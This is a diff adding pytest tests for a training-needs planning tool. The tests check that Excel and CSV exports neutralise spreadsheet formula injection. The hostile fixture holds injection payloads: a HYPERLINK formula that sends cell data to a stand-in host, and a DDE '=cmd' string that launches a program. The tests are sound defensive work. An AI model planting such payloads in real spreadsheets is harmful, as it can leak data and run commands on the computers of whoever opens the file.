@@ -8,6 +8,7 @@ import pandas as pd
 import pytest
 
 from analysis.core import privacy
+from analysis.core.cells import starts_formula
 from analysis.core.codes import TRAINING_FORMS
 from analysis.core.params import Costs, Workshops
 from analysis.training import workbook as WB
@@ -178,3 +179,113 @@ def test_sheet_names_are_excel_safe_and_unique():
     names = [WB.sheet_name(n, used) for n in ["A/B:C*D?[E]", "x" * 40, "x" * 40, "Ringkasan", "ringkasan", "'q'"]]
     assert names[0] == "A-B-C-D--E-" and all(len(n) <= 31 for n in names)
     assert len({n.lower() for n in names}) == len(names) and names[5] == "q"
+
+
+# --- spreadsheet safety (issue 10): text from the data never becomes a live formula -------------
+
+LINK = '=HYPERLINK("http://x.example/?d="&A1,"klik")'
+CMD = "=cmd|' /C calc'!A0"
+OWN_FORMULA = re.compile(r"=D(\d+)\*E\1\+F\1\*G\1\+H\1\*I\1|=SUM\(([DFHJ])\d+:\2\d+\)|=J\d+-J\d+")
+DANGER = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def hostile():
+    """A small plan whose programme names, providers, regions, units, clusters and competency names
+    all begin with a character a spreadsheet reads as a formula."""
+    regions = [LINK, "+62 Palu", "@Donggala", "-Sigi"]
+    rows = []
+    for i in range(48):
+        nip = f"19{70 + i % 25:02d}0{1 + i % 9}1{i % 9}20{10 + i % 10:02d}0{1 + i % 9}{1 + i % 2}{i:03d}"
+        cluster = 1 + i % 2
+        for code in ("M.01", "M.02", "T.x.1"):
+            rows.append({"employee_id": nip, "competency_code": code, "required_level": 3.0, "level": 2.0,
+                         "gap": 1.0, "basis": "current", "unit_id": f"=U{i % 3}", "position_class": "ahli_pertama",
+                         "job_family": "guru", "employment_type": "PNS", "region": regions[i % 4],
+                         "competency_name_id": f"-{code}+1", "competency_name_en": f"@{code}",
+                         "kind": "manajerial", "cluster": cluster, "cluster_name_id": f"=K{cluster}",
+                         "cluster_name_en": f"+K{cluster}"})
+    needs = pd.DataFrame(rows)
+    needs["cluster"] = needs["cluster"].astype("Int64")
+    needs["employee_id"] = privacy.pseudonymise(needs["employee_id"], b"test-key")
+    cat = pd.DataFrame([prog("P01", "M.01", "workshop", 12, 1_450_000, 8, 38),
+                        prog("P02", "M.02", "e_learning", 10, 100_000, 1, 500)])
+    cat["name"] = [CMD, "@SUM(A1:A9)"]
+    cat["provider"] = ["-2+3", "\t=1+1"]
+    ws = Workshops(max_cohort=20)
+    cands = W.candidate_workshops(needs, cat, ws, Costs())
+    plan = W.plan_workshops(cands, 120_000_000, needs)
+    assert (plan.selected["mode"] == "klasikal").any() and (plan.selected["mode"] != "klasikal").any()
+    return needs, cat, cands, plan
+
+
+def _formulas(wb) -> list[str]:
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def _texts(wb) -> list[str]:
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+@pytest.mark.parametrize("lang,restricted", [("id", True), ("en", True), ("en", False)])
+def test_workshop_plan_from_hostile_data_has_only_its_own_formulas(hostile, tmp_path, lang, restricted):
+    needs, _, cands, plan = hostile
+    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx", lang=lang,
+                                                  restricted=restricted))
+    formulas = _formulas(wb)
+    sel = plan.selected
+    nonclassroom = sel[sel["mode"] != "klasikal"]
+    lines = int((sel["mode"] == "klasikal").sum()) + nonclassroom.groupby(["program_id", "region"]).ngroups
+    assert len(formulas) == lines + 5  # a total per cost line, four sums and what is left of the budget
+    assert all(OWN_FORMULA.fullmatch(f) for f in formulas), [f for f in formulas if not OWN_FORMULA.fullmatch(f)]
+    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "e"]
+    texts = _texts(wb)
+    # the hostile values are there, as the text they are
+    assert {LINK, "+62 Palu", "@Donggala", "-Sigi"} <= set(texts)
+    if restricted:
+        assert {"-2+3", "=U0"} <= set(texts) and any(t.startswith(CMD) or CMD in t for t in texts)
+    # and a cell that would start a formula is marked so that editing it in Excel keeps it text
+    assert all(c.quotePrefix for ws in wb.worksheets for row in ws.iter_rows() for c in row
+               if c.data_type == "s" and starts_formula(c.value))
+
+
+def test_development_plans_workbook_from_hostile_data_has_no_formula(hostile, tmp_path):
+    from analysis.core.params import Params
+    from analysis.training import development as D
+
+    needs, cat, _, plan = hostile
+    plans = D.development_plans(needs, plan, cat, Params(workshops=Workshops(max_cohort=20)))
+    assert plans["region"].isin([LINK, "+62 Palu", "@Donggala", "-Sigi"]).all()
+    path = WB.write_table(plans, tmp_path / "development_plans.xlsx", "Rencana", restricted=True,
+                          money=("cost", "cost_funded", "cost_unfunded"),
+                          one_decimal=("total_gap", "gap_closed", "jp_total"))
+    wb = openpyxl.load_workbook(path)
+    assert _formulas(wb) == []
+    assert LINK in _texts(wb) and any(t.startswith("=U") for t in _texts(wb))
+
+
+def test_plans_and_tables_csv_from_hostile_data_have_no_formula_cell(hostile, tmp_path):
+    """What the run context writes to plans/ and tables/: no cell starts a formula, numbers stay numbers."""
+    import csv
+    import io
+
+    from analysis.core.params import Params, Privacy
+    from analysis.pipeline.context import RunContext
+    from analysis.training import development as D
+
+    needs, cat, _, plan = hostile
+    params = Params(workshops=Workshops(max_cohort=20), privacy=Privacy(pseudonymise=False))
+    ctx = RunContext(tmp_path, params)
+    plans = D.development_plans(needs, plan, cat, params)
+    paths = [ctx.save_restricted(plans, "development_plans"), ctx.save_restricted(plan.roster(), "workshop_rosters"),
+             ctx.save_table(plan.classroom_table(), "workshop_plan"),
+             ctx.save_table(plan.left_out_counts(), "left_out_by_reason")]
+    for path in paths:
+        text = path.read_text(encoding="utf-8")
+        for delimiter in (",", ";"):
+            for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+                bad = [c for c in row if c.lstrip('" ').startswith(DANGER) and not re.fullmatch(r"-?[\d.,e]+", c)]
+                assert not bad, (path.name, bad)
+    back = pd.read_csv(paths[0])
+    assert set(back["region"]) == {"'" + r for r in (LINK, "+62 Palu", "@Donggala", "-Sigi")}
+    assert pd.api.types.is_numeric_dtype(back["total_gap"]) and pd.api.types.is_numeric_dtype(back["cost"])
